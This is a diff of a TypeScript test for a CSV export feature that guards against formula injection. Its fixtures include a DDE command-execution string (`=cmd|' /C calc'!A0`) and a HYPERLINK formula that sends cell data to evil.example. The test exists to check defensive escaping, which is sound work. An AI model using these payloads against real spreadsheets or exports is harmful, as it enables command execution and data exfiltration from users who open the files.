@@ -42,13 +42,14 @@ const fieldsOf = (l: typeof leads.$inferSelect) => ({
 describe('CSV export', () => {
   it('guards formula cells, lists id, assignees and UTC time, and reads back into another organization unchanged', async () => {
     const owner = await signUp('Export Source')
-    const agentName = `=cmd|' /C calc'!A0\nAgent`
+    // Single lines: the forms refuse line breaks (lib/text.ts); test/properties.test.ts guards legacy ones.
+    const agentName = `=cmd|' /C calc'!A0 Agent`
     const agent = await joinAs(owner.client, owner.slug, 'agent', agentName)
     const tricky = {
       name: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
       email: 'ada@example.com',
       phone: '+49 30 1234567',
-      company: '@SUM(1)\n2',
+      company: '@SUM(1) 2',
       source: '-web\u2028ads',
       status: 'qualified',
     }
@@ -57,7 +58,7 @@ describe('CSV export', () => {
       name: "'Tis the season",
       email: '+tag@example.com',
       phone: '',
-      company: 'Acme, "Inc."\r\nBerlin',
+      company: 'Acme, "Inc.", Berlin',
       source: "'=not a guard",
       status: 'won',
     })
@@ -116,7 +117,7 @@ describe('CSV export', () => {
       "'Tis the season",
       "'+tag@example.com",
       '',
-      'Acme, "Inc."\r\nBerlin',
+      'Acme, "Inc.", Berlin',
       "''=not a guard",
       'Won',
       '',
